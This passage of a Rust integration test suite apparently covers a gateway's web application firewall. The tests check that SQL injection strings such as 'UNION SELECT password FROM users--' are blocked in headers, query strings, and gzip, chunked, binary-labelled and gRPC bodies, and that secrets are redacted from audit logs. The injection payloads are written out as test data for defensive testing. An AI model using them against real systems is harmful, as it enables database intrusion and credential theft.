        );
    }
    assert!(!ev.to_string().contains("S3cr3t"), "{ev}");
    assert_eq!(up.hits(), 0);
}

/// A `Referer` whose query carries an OAuth authorization code, with an attack in it: blocked,
/// and the audit event quotes the URL without its query — the code is nowhere in it. A request
/// signature or a code sent as a parameter is never quoted either.
#[tokio::test]
async fn a_referers_query_and_signatures_are_not_quoted_in_audit() {
    let (gw, up) = setup().await;
    let code = "SplxlOBeZQQYbYS6WxSbIA";
    let referer =
        format!("https://app.example/cb?code={code}&next=1' UNION SELECT password FROM users--");
    let r = call(&gw, "GET", "/orders", &[("referer", &referer)], "").await;
    let ev = assert_blocked(&gw, &r, code);
    let m = matches(&ev);
    assert!(m.iter().any(|x| x["target"] == "header:referer"), "{ev}");
    let hidden = referer.len() - referer.find('?').unwrap() - 1;
    for x in m.iter().filter(|x| x["target"] == "header:referer") {
        assert_eq!(
            x["snippet"],
            format!("https://app.example/cb?[redacted: {hidden} characters]"),
            "{ev}"
        );
    }
    assert!(!ev.to_string().contains(code), "{ev}");
    assert!(!ev.to_string().contains("code="), "{ev}");
    for (query, secret) in [
        ("sig=S3cr3tSig'%20OR%20'1'='1", "S3cr3tSig"),
        ("code=C0deC0de'%20OR%20'1'='1", "C0deC0de"),
    ] {
        let r = call(&gw, "GET", &format!("/orders?{query}"), &[], "").await;
        let ev = assert_blocked(&gw, &r, secret);
        for x in matches(&ev) {
            assert!(
                x["snippet"].as_str().unwrap().starts_with("[redacted: "),
                "{ev}"
            );
        }
        assert!(!ev.to_string().contains(secret), "{ev}");
    }
    assert_eq!(up.hits(), 0);
    // Still healthy afterwards.
    let r = call(
        &gw,
        "GET",
        "/orders",
        &[("referer", "https://app.example/")],
        "",
    )
    .await;
    assert_eq!(r.status, 200);
}

/// While the WAF buffers a body, the body rules hold as they do towards an upstream: a body
/// that stalls gets 408, a chunked body over the route's limit 413 — refused by the WAF step,
/// with nothing forwarded.
#[tokio::test]
async fn bodies_are_bounded_while_the_waf_buffers_them() {
    let up = TestUpstream::start("app").await;
    let gw = Gateway::start(
        bin(),
        &format!(
            r#"listeners: [{{ name: public, address: "127.0.0.1:0" }}]
admin: {{ address: "127.0.0.1:0" }}
server: {{ body_read_timeout: 1s }}
upstreams: {{ app: {{ targets: ["{}"] }} }}
routes:
  - {{ name: small, match: {{ prefix: /small }}, upstream: app, max_body_bytes: 64 }}
  - {{ name: any, match: {{ prefix: / }}, upstream: app }}
"#,
            up.url()
        ),
    )
    .unwrap();
    let raw = |req: String| {
        let addr = gw.listener("public");
        async move {
            let mut s = tokio::net::TcpStream::connect(addr).await.unwrap();
            s.write_all(req.as_bytes()).await.unwrap();
            let mut out = Vec::new();
            let _ = tokio::time::timeout(Duration::from_secs(8), s.read_to_end(&mut out)).await;
            String::from_utf8_lossy(&out).into_owned()
        }
    };
    let out = raw("POST /x HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{\"a\":".into()).await;
    assert!(out.starts_with("HTTP/1.1 408"), "{out}");
    assert!(out.contains("urn:portcullis:problem:body_timeout"), "{out}");
    let chunk = "a".repeat(100);
    let out = raw(format!(
        "POST /small HTTP/1.1\r\nHost: a\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n{:x}\r\n{chunk}\r\n0\r\n\r\n",
        chunk.len()
    ))
    .await;
    assert!(out.starts_with("HTTP/1.1 413"), "{out}");
    assert!(
        out.contains("urn:portcullis:problem:body_too_large"),
        "{out}"
    );
    for reason in ["body_timeout", "body_too_large"] {
        let ev = gw
            .wait_for_audit(|e| e["reason"] == reason, Duration::from_secs(5))
            .unwrap_or_else(|| panic!("no {reason} audit event: {:#?}", gw.audit_events()));
        assert_eq!(ev["stage"], "waf", "{ev}");
    }
    assert_eq!(up.hits(), 0, "nothing was forwarded");
}

async fn call_bytes(gw: &Gateway, path: &str, ct: &str, body: Vec<u8>) -> Resp {
    send(
        http::Request::builder()
            .method("POST")
            .uri(format!("{}{path}", gw.url("public")))
            .header("content-type", ct)
            .body(http_body_util::Full::new(bytes::Bytes::from(body)))
            .unwrap(),
    )
    .await
}

/// `n` bytes a PNG could hold: its signature, then noise (xorshift, fixed seed).
fn png_like(n: usize) -> Vec<u8> {
    let mut v = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
    while v.len() < n {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        v.extend_from_slice(&x.to_le_bytes());
    }
    v.truncate(n);
    v
}

/// A body labelled binary whose first bytes are text is inspected as an untyped body (many
/// backends ignore the label); a real binary streams on, past the inspection limit, byte for
/// byte.
#[tokio::test]
async fn bodies_labelled_binary_are_inspected_when_text() {
    let (gw, up) = setup().await;
    let before = up.hits();
    // JSON labelled octet-stream: 403, the rule named in the audit, nothing upstream.
    let attack = br#"{"q":"1' OR '1'='1"}"#.to_vec();
    let r = call_bytes(&gw, "/upload", "application/octet-stream", attack).await;
    let ev = assert_blocked(&gw, &r, "OR '1'");
    assert!(
        matches(&ev).iter().any(|m| m["class"] == "sqli"
            && m["target"] == "body:$.q"
            && (1100..1200).contains(&m["rule"].as_u64().unwrap())),
        "{ev}"
    );
    // Labelled as other binary types, inflated from gzip, or with its first byte sent alone.
    for (ct, coding, body) in [
        (
            "image/png",
            "identity",
            b"id=1' UNION SELECT password FROM users--".to_vec(),
        ),
        (
            "application/x-protobuf",
            "gzip",
            gzip(br#"{"q":"1' UNION SELECT password FROM users--"}"#),
        ),
        (
            "application/grpc",
            "identity",
            br#"{"q":"1' UNION SELECT password FROM users--"}"#.to_vec(),
        ),
    ] {
        let r = call_coded(&gw, "/upload", ct, coding, body).await;
        let ev = assert_blocked(&gw, &r, "UNION");
        assert!(
            matches(&ev).iter().any(|m| m["class"] == "sqli"),
            "{ct}: {ev}"
        );
    }
    let out = raw_chunked(
        &gw,
        "/upload",
        &[("Content-Type", "application/octet-stream")],
        &[b"{", br#""q":"1' UNION SELECT password FROM users--"}"#],
    )
    .await;
    assert!(out.starts_with("HTTP/1.1 403"), "{out}");
    assert_eq!(up.hits(), before, "nothing refused reached the upstream");

    // A PNG larger than the inspection limit (64 bytes on /small): forwarded byte for byte.
    let png = png_like(6 * 1024);
    let r = call_bytes(&gw, "/small/avatar", "image/png", png.clone()).await;
    assert_eq!(r.status.as_u16(), 200, "{}", r.text());
    assert_eq!(up.requests().pop().unwrap().body.as_ref(), png.as_slice());
    // Several MiB, past the default 1 MiB inspection limit that refuses longer text: no
    // refusal, streamed whole.
    let big = png_like(5 * 1024 * 1024 + 3);
    let r = call_bytes(&gw, "/uploads/photo", "image/png", big.clone()).await;
    assert_eq!(r.status.as_u16(), 200, "{}", r.text());
    let got = up.requests().pop().unwrap();
    assert_eq!(got.body.len(), big.len());
    assert!(
        got.body.as_ref() == big.as_slice(),
        "the image arrives intact"
    );
    // Binary that is no known format streams on too.
    let mut noise = png_like(300_000);
    noise.drain(..8);
    let r = call_bytes(
        &gw,
        "/small/blob",
        "application/octet-stream",
        noise.clone(),
    )
    .await;
    assert_eq!(r.status.as_u16(), 200, "{}", r.text());
    assert_eq!(up.requests().pop().unwrap().body.as_ref(), noise.as_slice());

    // gRPC over HTTP/2: a framed message goes on as sent, text fields and all (a call is
    // judged on its first message: a client may wait for an answer before sending more).
    let text = b"a long string field of plain words ... ".repeat(5);
    let mut grpc = vec![0u8, 0, 0, 0, (text.len() + 2) as u8, 0x0a, text.len() as u8];
    grpc.extend(&text);
    let r = send_h2c(
        http::Request::builder()
            .method("POST")
            .uri(format!("{}/pkg.Orders/Get", gw.url("public")))
            .header("content-type", "application/grpc")
            .header("te", "trailers")
            .body(http_body_util::Full::new(bytes::Bytes::from(grpc.clone())))
            .unwrap(),
    )
    .await;
    assert_eq!(r.status.as_u16(), 200, "{}", r.text());
    assert_eq!(up.requests().pop().unwrap().body.as_ref(), grpc.as_slice());
    // Labelled gRPC, its body sent a moment after the head: to this upstream, which speaks
    // HTTP/1.1 only (no gRPC server does), the body is waited for and read like any other —
    // not streamed on uninspected as a bidirectional call's may be.
    let before = up.hits();
    let late = futures_util::stream::once(Box::pin(async {
        tokio::time::sleep(Duration::from_millis(300)).await;
        Ok::<_, std::convert::Infallible>(hyper::body::Frame::data(bytes::Bytes::from_static(
            br#"{"q":"1 UNION SELECT password FROM users--"}"#,
        )))
    }));
    let client = hyper_util::client::legacy::Client::builder(hyper_util::rt::TokioExecutor::new())
        .http2_only(true)
        .build_http();
    let answer = client
        .request(
            http::Request::builder()
                .method("POST")
                .uri(format!("{}/pkg.Orders/Get", gw.url("public")))
                .header("content-type", "application/grpc")
                .header("te", "trailers")
                .body(http_body_util::StreamBody::new(late))
                .unwrap(),
        )
        .await
        .unwrap();
    assert_eq!(answer.status(), 403);
    assert_eq!(up.hits(), before);

    // Text labelled binary past the inspection limit: the route's `on_body_over_limit`, as
    // for a body without a type — 413 by default, nothing upstream …
    let before = up.hits();
    let csv = "id,name,comment\n1,Ann,fine\n".repeat(20);
    let r = call_bytes(
        &gw,
        "/small/import",
        "application/octet-stream",
        csv.clone().into_bytes(),
    )
    .await;
    let v = assert_problem(&r, 413, "body_too_large");
    assert!(v["detail"].as_str().unwrap().contains("inspect"), "{v}");
    let large = "1,Ann,fine\n".repeat(100_000);
    let r = call_bytes(
        &gw,
        "/uploads/import",
        "application/octet-stream",
        large.into_bytes(),
    )
    .await;
    assert_problem(&r, 413, "body_too_large");
    assert_eq!(up.hits(), before);
    // The route's body limit (1 KiB on /tight) holds for what the WAF read to decide, text or
    // binary — a gzip body the WAF read to its end to inflate a kilobyte of it too.
    let mut noise = png_like(2000);
    noise.drain(..8);
    let coded = gzip(&noise);
    assert!(coded.len() > 1024 && coded.len() < 2048);
    let csv4 = csv.repeat(4).into_bytes();
    for (ct, coding, body) in [
        ("image/png", "identity", png_like(2000)),
        ("application/octet-stream", "identity", csv4),
        ("application/octet-stream", "gzip", coded),
    ] {
        let pieces: Vec<&[u8]> = body.chunks(500).collect();
        let headers = [("Content-Type", ct), ("Content-Encoding", coding)];
        let out = raw_chunked(&gw, "/tight/x", &headers, &pieces).await;
        assert!(out.starts_with("HTTP/1.1 413"), "{ct} {coding}: {out}");
    }
    assert_eq!(up.hits(), before);
    // … or passed whole, uninspected, with rule 1004 recorded.
    let r = call_bytes(
        &gw,
        "/pass/import",
        "application/octet-stream",
        csv.clone().into_bytes(),
    )
    .await;
    assert_eq!(r.status.as_u16(), 200, "{}", r.text());
    assert_eq!(up.requests().pop().unwrap().body.as_ref(), csv.as_bytes());
    let ev = audit_of(&gw, r.header("x-request-id").unwrap());
    assert!(matches(&ev).iter().any(|m| m["rule"] == 1004), "{ev}");

    // Benign text labelled binary: inspected, forwarded intact.
    let line = b"2026-12-02,order 42,\"blue shoes, size 9\",O'Brien\n".to_vec();
    let r = call_bytes(&gw, "/import", "application/octet-stream", line.clone()).await;
    assert_eq!(r.status.as_u16(), 200, "{}", r.text());
    assert_eq!(up.requests().pop().unwrap().body.as_ref(), line.as_slice());
}

/// Sends a chunked POST over a raw connection, with these header fields, one chunk per
/// piece (a pause after each), and returns the answer.
async fn raw_chunked(
    gw: &Gateway,
    path: &str,
    headers: &[(&str, &str)],
    pieces: &[&[u8]],
) -> String {
    let mut s = tokio::net::TcpStream::connect(gw.listener("public"))
        .await
        .unwrap();
    let mut head = format!("POST {path} HTTP/1.1\r\nHost: a\r\n");
    for (n, v) in headers {
        head.push_str(&format!("{n}: {v}\r\n"));
    }
    head.push_str("Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n");
    s.write_all(head.as_bytes()).await.unwrap();
    for p in pieces {
        s.write_all(format!("{:x}\r\n", p.len()).as_bytes())
            .await
            .unwrap();
        s.write_all(p).await.unwrap();
        s.write_all(b"\r\n").await.unwrap();
        s.flush().await.unwrap();
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    s.write_all(b"0\r\n\r\n").await.unwrap();
    let mut out = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(8), s.read_to_end(&mut out)).await;
    String::from_utf8_lossy(&out).into_owned()
}
